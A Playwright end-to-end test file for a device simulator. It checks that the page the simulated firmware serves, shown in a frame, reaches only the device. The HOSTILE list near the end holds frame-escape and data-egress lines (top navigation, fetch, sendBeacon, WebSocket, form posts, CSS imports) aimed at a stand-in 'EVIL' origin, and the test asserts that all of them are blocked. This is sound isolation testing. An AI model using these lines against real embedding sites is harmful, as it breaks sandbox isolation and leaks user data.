"""The page that the device serves is shown beside it, and all that it asks reaches the device and nothing else."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from playwright.sync_api import FrameLocator, Page, Request, Route, expect

from sim import website
from tests.e2e.screen import Screen
from tools.site import DIST

SERVER = """\
FILES = %s
TYPES = {'html': 'text/html', 'css': 'text/css', 'js': 'text/javascript', 'png': 'image/png'}
TYPES['json'] = 'application/json'

def answer(conn, status, body, kind='text/html', more=''):
    head = 'HTTP/1.1 %%s\\r\\nContent-Type: %%s\\r\\n%%sContent-Length: %%d\\r\\nConnection: close\\r\\n\\r\\n'
    data = body.encode() if isinstance(body, str) else body
    Net.send(conn, head %% (status, kind, more, len(data)))
    Net.send(conn, data)
    Net.disconnect(conn)

def field(message, name):
    lines = HTTP.param(message, HTTP.MESSAGE).split('\\r\\n\\r\\n')[0].split('\\r\\n')
    return ''.join(line[len(name) + 2:] for line in lines if line.startswith(name + ': '))

def serve(conn, ev, message):
    if ev == HTTP.EV_WS_FRAME:
        HTTP.ws_send(conn, HTTP.ws_opcode(message), HTTP.param(message, HTTP.BODY))
    if ev != HTTP.EV_REQUEST:
        return
    path = HTTP.param(message, HTTP.URI)
    method = HTTP.param(message, HTTP.METHOD)
    body = HTTP.param(message, HTTP.BODY)
    query = HTTP.param(message, HTTP.QUERY_STRING)
    if path == '/login':
        cookies = 'Set-Cookie: user=ann; Path=/\\r\\nSet-Cookie: id=7; HttpOnly\\r\\n'
        answer(conn, '303 See Other', '', more='Location: /who\\r\\n' + cookies)
    elif path == '/who':
        answer(conn, '200 OK', '<p id=who>' + field(message, 'Cookie') + '</p><p id=seen></p>'
               '<script>seen.textContent = document.cookie</script>')
    elif path == '/echo':
        kind = field(message, 'Content-Type').split(';')[0]
        text = '%%s %%s [%%s] %%s' %% (method, query, kind, body)
        script = '<script>echo.textContent = ' + repr(text) + '</script>'
        answer(conn, '200 OK', '<title>Echo</title><pre id=echo></pre>' + script)
    elif path in FILES:
        answer(conn, '200 OK', FILES[path], TYPES[path.split('.')[-1]] if '.' in path else 'text/html')
    else:
        answer(conn, '404 Not Found', '<h1>nothing here</h1>')

HTTP.add_endpoint(HTTP.get_system_server(), '/*', serve)
"""

PIXEL = (
    "bytes.fromhex('89504e470d0a1a0a0000000d4948445200000002000000020802000000fdd49a730000001349444154789c63fccf"
    "c0c0c0c0c4c0c0c0c000000d0d0103ef2a2d0a0000000049454e44ae426082')"
)


class Pixel:
    """The bytes of an image of 2 x 2 points, as the firmware writes them."""

    def __repr__(self) -> str:
        return PIXEL


@pytest.fixture
def screen(page: Page, site: str) -> Screen:
    return Screen(page).open(site)


@pytest.fixture
def shown(page: Page) -> FrameLocator:
    """What is in the frame."""
    return page.frame_locator("iframe[title='Page of the device']")


def boot(screen: Screen, files: dict[str, object]) -> None:
    """Run a firmware that serves some files, and look at its page."""
    screen.run(SERVER % repr(files))
    expect(screen.endpoints.filter(has_text="/*")).to_be_visible()
    screen.page.get_by_role("tab", name="Page").click()
    settle(screen.page)


def settle(page: Page) -> None:
    """Wait until what is shown is all there: a pointer is slower than that, and a test is not."""
    expect(page.get_by_role("button", name="Open the device's page")).to_be_hidden()
    expect(page.locator("sim-page .frame")).to_have_attribute("aria-busy", "false")


def requests(page: Page) -> list[str]:
    """What the browser in the page has asked the device."""
    records = json.loads(page.evaluate("JSON.stringify(globalThis.traceOfTest)"))
    asked = [record for record in records if record["type"] == "http.requested"]
    return [f"{record['method']} {record['target']}" for record in asked]


def test_html_css_scripts_and_images_come_from_the_device(page: Page, screen: Screen, shown: FrameLocator):
    files = {
        "/": "<!doctype html><title>Lamp</title><link rel=stylesheet href=style.css><script src='/first.js'></script>"
        "<h1>Hello</h1><img src=dot.png alt=dot><script>document.querySelector('h1').textContent += first</script>"
        "<script src=last.js defer></script>",
        "/style.css": "@import 'more.css'; h1 { color: rgb(1, 2, 3); background-image: url(dot.png) }",
        "/more.css": "h1 { text-decoration: underline }",
        "/first.js": "var first = ' first'",
        "/last.js": "document.querySelector('h1').append(' last ' + document.readyState)",
        "/dot.png": Pixel(),
    }
    boot(screen, files)
    title = shown.get_by_role("heading", name="Hello first last interactive")
    expect(title).to_be_visible()
    expect(title).to_have_css("color", "rgb(1, 2, 3)")
    expect(title).to_have_css("text-decoration-line", "underline")
    assert "blob:" in title.evaluate("element => getComputedStyle(element).backgroundImage")
    expect(shown.get_by_role("img", name="dot")).to_have_js_property("naturalWidth", 2)
    expect(page.get_by_role("status", name="State of the page")).to_contain_text("Lamp")
    assert {"GET /", "GET /style.css", "GET /more.css", "GET /first.js", "GET /last.js", "GET /dot.png"} <= set(
        requests(page)
    )
    expect(page.get_by_label("Address of the page")).to_have_value("http://192.168.4.1/")


def test_links_and_the_history_lead_through_the_pages(page: Page, screen: Screen, shown: FrameLocator):
    files = {
        "/": "<h1>One</h1><a href='two.html?x=1#part'>to two</a>",
        "/two.html": "<h1>Two</h1><p id=query></p><script>query.textContent = location.search + location.hash</script>"
        "<a href='#far'>far</a><p id=far>here</p><a href='http://example.com/'>away</a>",
    }
    boot(screen, files)
    address = page.get_by_label("Address of the page")
    shown.get_by_role("link", name="to two").click()
    expect(shown.get_by_role("heading", name="Two")).to_be_visible()
    expect(shown.locator("#query")).to_have_text("?x=1#part")
    expect(address).to_have_value("http://192.168.4.1/two.html?x=1#part")
    settle(page)
    shown.get_by_role("link", name="far").click()
    expect(address).to_have_value("http://192.168.4.1/two.html?x=1#far")
    page.get_by_role("button", name="Back").click()
    expect(shown.get_by_role("heading", name="One")).to_be_visible()
    page.get_by_role("button", name="Forward", exact=True).click()
    expect(shown.get_by_role("heading", name="Two")).to_be_visible()
    settle(page)
    shown.get_by_role("link", name="away").click()
    expect(page.get_by_text("Only the device can be reached from here, not example.com.")).to_be_visible()
    page.get_by_role("button", name="Home").click()
    expect(shown.get_by_role("heading", name="One")).to_be_visible()
    address.fill("/two.html")
    address.press("Enter")
    expect(shown.get_by_role("heading", name="Two")).to_be_visible()


@pytest.mark.parametrize(
    ("form", "echo"),
    [
        ("<form action=/echo>", "GET a=1&b=x+y&go=now [] "),
        ("<form action=/echo method=post>", "POST  [application/x-www-form-urlencoded] a=1&b=x+y&go=now"),
        ("<form action=/echo method=post enctype=text/plain>", "POST  [text/plain] a=1\r\nb=x y\r\ngo=now\r\n"),
    ],
)
def test_forms_reach_the_device(screen: Screen, shown: FrameLocator, form: str, echo: str):
    boot(
        screen,
        {"/": f"{form}<input name=a value=1><input name=b value='x y'><button name=go value=now>Go</button>"},
    )
    shown.get_by_role("button", name="Go").click()
    expect(shown.locator("#echo")).to_have_js_property("textContent", echo)


def test_a_form_with_a_file_is_sent_in_parts(screen: Screen, shown: FrameLocator):
    boot(
        screen,
        {"/": "<form action=/echo method=post enctype=multipart/form-data><input type=file name=f><button>Go"},
    )
    shown.locator("input").set_input_files({"name": "a.txt", "mimeType": "text/plain", "buffer": b"content of it"})
    shown.get_by_role("button", name="Go").click()
    expect(shown.locator("#echo")).to_contain_text("[multipart/form-data]")
    expect(shown.locator("#echo")).to_contain_text('filename="a.txt"')
    expect(shown.locator("#echo")).to_contain_text("content of it")


FETCHES = """<ul id=log></ul><script>
const say = (text) => { const li = document.createElement('li'); li.textContent = text; log.append(li); };
(async () => {
  const answer = await fetch('data.json', {headers: {'X-One': '1'}});
  say(answer.status + ' ' + answer.headers.get('content-type') + ' ' + (await answer.json()).value);
  const headers = {'Content-Type': 'application/json'};
  const posted = await fetch('/echo?q', {method: 'POST', body: JSON.stringify({a: 'ü'}), headers});
  say((await posted.text()).match(/POST q .application.json. .*}/)[0]);
  say(String((await fetch('/none')).status));
  const request = new XMLHttpRequest();
  request.onload = () => {
    say('xhr ' + request.status + ' ' + request.response.value + ' ' + request.getResponseHeader('Content-Type'));
    socket();
  };
  request.open('GET', 'data.json');
  request.responseType = 'json';
  request.send();
})();
function socket() {
  const ws = new WebSocket('ws://' + location.host + '/ws');
  ws.binaryType = 'arraybuffer';
  ws.onopen = () => { ws.send('grüße'); ws.send(new Uint8Array([0, 255])); };
  ws.onmessage = ({data}) => {
    say('ws ' + (typeof data === 'string' ? data : [...new Uint8Array(data)]));
    if (typeof data !== 'string') ws.close(4000, 'enough');
  };
  ws.onclose = ({code, wasClean}) => say('closed ' + code + ' ' + wasClean);
}
</script>"""


def test_fetch_xmlhttprequest_and_websocket_reach_the_device(screen: Screen, shown: FrameLocator):
    boot(screen, {"/": FETCHES, "/data.json": '{"value": 42}'})
    expect(shown.get_by_role("listitem")).to_have_text(
        [
            "200 application/json 42",
            'POST q [application/json] {"a": "ü"}'.replace(": ", ":"),
            "404",
            "xhr 200 42 application/json",
            "ws grüße",
            "ws 0,255",
            "closed 4000 true",
        ]
    )


DYNAMIC = """<div id=box></div><p id=log></p><script>
const image = new Image();
image.onload = () => { log.textContent += ' image ' + image.naturalWidth + image.src.slice(-8); };
image.src = 'dot.png';
const script = document.createElement('script');
script.src = '/more.js';
script.onload = () => { log.textContent += ' loaded'; };
document.body.append(script);
box.innerHTML = '<img alt=inner src="/dot.png"><a href="/two">two</a>';
const missing = new Image();
missing.onerror = () => { log.textContent += ' missing'; };
missing.src = '/none.png';
localStorage.visits = 1 + Number(localStorage.visits ?? 0);
</script><script type=module>import { name } from './name.js'; log.textContent += ' ' + name;</script>"""


def test_what_scripts_put_into_the_page_is_loaded_too(screen: Screen, shown: FrameLocator):
    files = {
        "/": DYNAMIC, "/dot.png": Pixel(), "/more.js": "log.textContent += ' more';",
        "/name.js": "import { part } from '/part.js'; export const name = 'module' + part;",
        "/part.js": "export const part = '!';",
    }  # fmt: skip
    boot(screen, files)
    for text in ("image 2/dot.png", "more loaded", "missing", "module!"):
        expect(shown.locator("#log")).to_contain_text(text)
    expect(shown.get_by_role("img", name="inner")).to_have_js_property("naturalWidth", 2)


def test_cookies_are_kept_and_redirects_followed(page: Page, screen: Screen, shown: FrameLocator):
    boot(screen, {"/": "<a href=/login>log in</a>"})
    shown.get_by_role("link", name="log in").click()
    expect(shown.locator("#who")).to_have_text("user=ann; id=7")
    expect(shown.locator("#seen")).to_have_text("user=ann")
    expect(page.get_by_label("Address of the page")).to_have_value("http://192.168.4.1/who")


def test_a_page_that_is_wanted_before_there_is_a_device_comes_with_it(page: Page, site: str):
    held: list[Route] = []
    page.context.route("**/worker.js", lambda route: held.append(route))
    page.goto(site)
    page.get_by_role("tab", name="Page", exact=True).click()
    expect(page.get_by_role("button", name="Open the device's page")).to_be_disabled()
    held[0].continue_()
    shown = page.frame_locator("iframe[title='Page of the device']")
    expect(shown.get_by_text("Not Found")).to_be_visible()


def test_the_page_works_in_a_frame_of_another_site(page: Page, site: str, serve: Callable[..., str], tmp_path: Path):
    (tmp_path / "index.html").write_text(f"<iframe src='{site}' width=1200 height=900 title=site></iframe>")
    page.goto(serve(tmp_path))
    inner = page.frame_locator("iframe[title=site]")
    expect(inner.get_by_role("status", name="Answer")).to_contain_text("200 OK")
    inner.get_by_role("tab", name="Page").click()
    shown = inner.frame_locator("iframe[title='Page of the device']")
    expect(shown.get_by_text("nothing").or_(shown.get_by_text("Not Found"))).to_be_visible()
    address = inner.get_by_label("Address of the page")
    address.fill("/my/api")
    address.press("Enter")
    expect(shown.get_by_text("hello!")).to_be_visible()


def test_what_is_kept_by_the_page_is_there_after_a_reload(page: Page, screen: Screen, shown: FrameLocator):
    script = "localStorage.n = 1 + Number(localStorage.n ?? 0); n.textContent = localStorage.getItem('n')"
    count = f"<p id=n></p><script>{script}</script>"
    boot(screen, {"/": count})
    expect(shown.locator("#n")).to_have_text("1")
    page.get_by_role("button", name="Reload", exact=True).click()
    expect(shown.locator("#n")).to_have_text("2")


@pytest.mark.parametrize(
    ("script", "path"),
    [
        ("location.href = '/two'", "/two"),
        ("location.assign('two?a=1')", "/two?a=1"),
        ("setTimeout(() => { location = '/two#x' }, 50)", "/two"),
        ("document.querySelector('a').click()", "/two"),
        ("document.forms[0].submit()", "/two?a=1"),
    ],
)
def test_scripts_go_to_other_pages(page: Page, screen: Screen, shown: FrameLocator, script: str, path: str):
    start = f"<a href=/two></a><form action=/two><input name=a value=1></form><script>{script}</script>"
    boot(screen, {"/": start, "/two": "<h1>Two</h1>"})
    expect(shown.get_by_role("heading", name="Two")).to_be_visible()
    expect(page.get_by_label("Address of the page")).to_have_value(f"http://192.168.4.1{path}")


def test_scripts_write_the_history(page: Page, screen: Screen, shown: FrameLocator):
    script = "onpopstate = (event) => { log.textContent = JSON.stringify(event.state) }; "
    script += "history.pushState({n: 1}, '', '/state/1')"
    boot(screen, {"/": f"<p id=log></p><script>{script}</script>"})
    address = page.get_by_label("Address of the page")
    expect(address).to_have_value("http://192.168.4.1/state/1")
    page.get_by_role("button", name="Back").click()
    expect(shown.locator("#log")).to_have_text("null")
    expect(address).to_have_value("http://192.168.4.1/")
    page.get_by_role("button", name="Forward", exact=True).click()
    expect(shown.locator("#log")).to_have_text('{"n":1}')


def test_a_page_that_is_not_there_is_said_and_shown_and_others_are_offered(
    page: Page, screen: Screen, shown: FrameLocator
):
    page.get_by_role("tab", name="Page").click()
    state = page.get_by_role("status", name="State of the page")
    expect(state).to_contain_text("404 Not Found: the device has no page at /.")
    state.get_by_role("button", name="/my/api").click()
    expect(shown.get_by_text("hello!")).to_be_visible()


def test_a_port_where_nothing_listens_is_said(page: Page, screen: Screen):
    page.get_by_role("tab", name="Page").click()
    address = page.get_by_label("Address of the page")
    address.fill("http://192.168.4.1:8080/")
    address.press("Enter")
    expect(page.get_by_text("Connection refused: nothing listens on 192.168.4.1:8080.")).to_be_visible()


def test_a_device_that_has_restarted_offers_to_reload(page: Page, screen: Screen, shown: FrameLocator):
    boot(screen, {"/": "<h1>Hello</h1>"})
    expect(shown.get_by_role("heading", name="Hello")).to_be_visible()
    screen.press("Stop")
    expect(page.get_by_text("The device is off.", exact=False).last).to_be_visible()
    screen.press("Restart")
    expect(page.get_by_text("The device has restarted since.")).to_be_visible()
    screen.press("Reload the page")
    expect(page.get_by_text("The device has restarted since.")).to_be_hidden()
    expect(shown.get_by_role("heading", name="Hello")).to_be_visible()


def test_the_page_takes_the_whole_window_and_escape_gives_it_back(page: Page, screen: Screen, shown: FrameLocator):
    boot(screen, {"/": "<h1>Hello</h1>"})
    screen.press("Open full size")
    frame = page.locator("iframe")
    box = frame.bounding_box()
    assert box is not None
    assert box["width"] == page.viewport_size["width"]
    expect(page.locator(".firmware")).to_have_js_property("inert", True)
    page.keyboard.press("Escape")
    expect(page.locator(".firmware")).to_have_js_property("inert", False)
    expect(page.get_by_role("button", name="Open full size")).to_be_focused()
    expect(shown.get_by_role("heading", name="Hello")).to_be_visible()


@pytest.mark.parametrize(
    ("path", "text"),
    [("/a.json", '{"a": "<b>"}'), ("/none", "nothing here")],
)
def test_what_is_no_html_is_shown_as_text(page: Page, screen: Screen, shown: FrameLocator, path: str, text: str):
    boot(screen, {"/": "<h1>Hello</h1>", "/a.json": '{"a": "<b>"}'})
    expect(shown.get_by_role("heading", name="Hello")).to_be_visible()
    page.get_by_label("Address of the page").fill(path)
    screen.press("Go")
    expect(shown.get_by_text(text)).to_be_visible()


ADD = "const add = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields)); "
HOSTILE = r"""
top.location = 'EVIL/top'
try { parent.document.title = 'broken' } catch {}; parent.postMessage({ type: 'preview', search: '?x' }, '*')
window.open('EVIL/open'); add('a', { href: 'EVIL/a', target: '_blank' }); document.querySelector('a').click()
location.href = 'EVIL/location'
fetch('EVIL/fetch').catch(() => 0); navigator.sendBeacon('EVIL/beacon', 'x'); new Image().src = 'EVIL/image'
document.write('<img src=EVIL/img><script src=EVIL/script><\/script><link rel=prefetch href=EVIL/prefetch>')
add('iframe', { src: 'EVIL/frame' })
add('iframe', { srcdoc: '<img src=EVIL/inner><script>location = "EVIL/location"<\/script>' })
add('form', { action: 'EVIL/form', method: 'post' }); HTMLFormElement.prototype.submit.call(document.forms[0])
new WebSocket('EVIL/ws'.replace('http', 'ws')); new EventSource('EVIL/events')
add('style', { textContent: '@import "EVIL/css"; body { background: url(EVIL/bg) }' })
add('meta', { httpEquiv: 'refresh', content: '0; url=EVIL/meta' })
document.body.innerHTML = '<img src=EVIL/x srcset=EVIL/y><video poster=EVIL/z src=EVIL/v></video><embed src=EVIL/e>'
setTimeout(() => document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=EVIL/late>'), 0)
import('EVIL/module.js').catch(() => 0); try { new Worker('EVIL/worker.js') } catch {}
""".strip().splitlines()


@pytest.fixture
def other() -> Iterator[tuple[str, list[str]]]:
    """Another origin, and what it was asked for."""
    log: list[str] = []
    http = website.listen(DIST, log=log.append)
    threading.Thread(target=http.serve_forever, args=[0.05], daemon=True).start()
    yield f"http://127.0.0.1:{http.server_port}", log
    http.shutdown()
    http.server_close()


@pytest.mark.first_visit  # it listens to the whole context
def test_pages_that_want_out_do_not_get_out(page: Page, screen: Screen, site: str, other: tuple[str, list[str]]):
    evil, log = other
    asked: list[str] = []
    framed: list[str] = []

    def finished(request: Request) -> None:
        asked.append(request.url)
        if request.service_worker is None and request.frame.parent_frame is not None:
            framed.append(request.url)

    page.context.on("requestfinished", finished)
    opened: list[Page] = []
    page.context.on("page", lambda new: opened.append(new))
    scripts = [ADD + script.replace("EVIL", evil) for script in HOSTILE]
    files = {f"/{n}": f"<body><h1>Hostile</h1><script>{script}</script>" for n, script in enumerate(scripts)}
    boot(screen, {"/": "<h1>Fine</h1>", **files})
    fine = page.frame_locator("iframe").get_by_role("heading", name="Fine")
    address = page.get_by_label("Address of the page")
    expect(fine).to_be_visible()
    for number, script in enumerate(HOSTILE):
        address.fill(f"/{number}")
        screen.press("Go")
        expect(fine).to_have_count(0)
        expect(page.get_by_role("status", name="State of the page").get_by_text("Loading")).to_have_count(0)
        page.get_by_role("button", name="Home").click()
        expect(fine, script).to_be_visible()
        assert log == [], script
        assert [url for url in asked if url.startswith(evil)] == [], script
        assert opened == [], script
        assert (page.url, page.title()) == (site, "mos-sim"), script
    assert {url.split("?")[0] for url in framed if url.startswith("http")} == {f"{site}preview.html"}
    expect(page.get_by_role("heading", name="mos-sim")).to_be_visible()
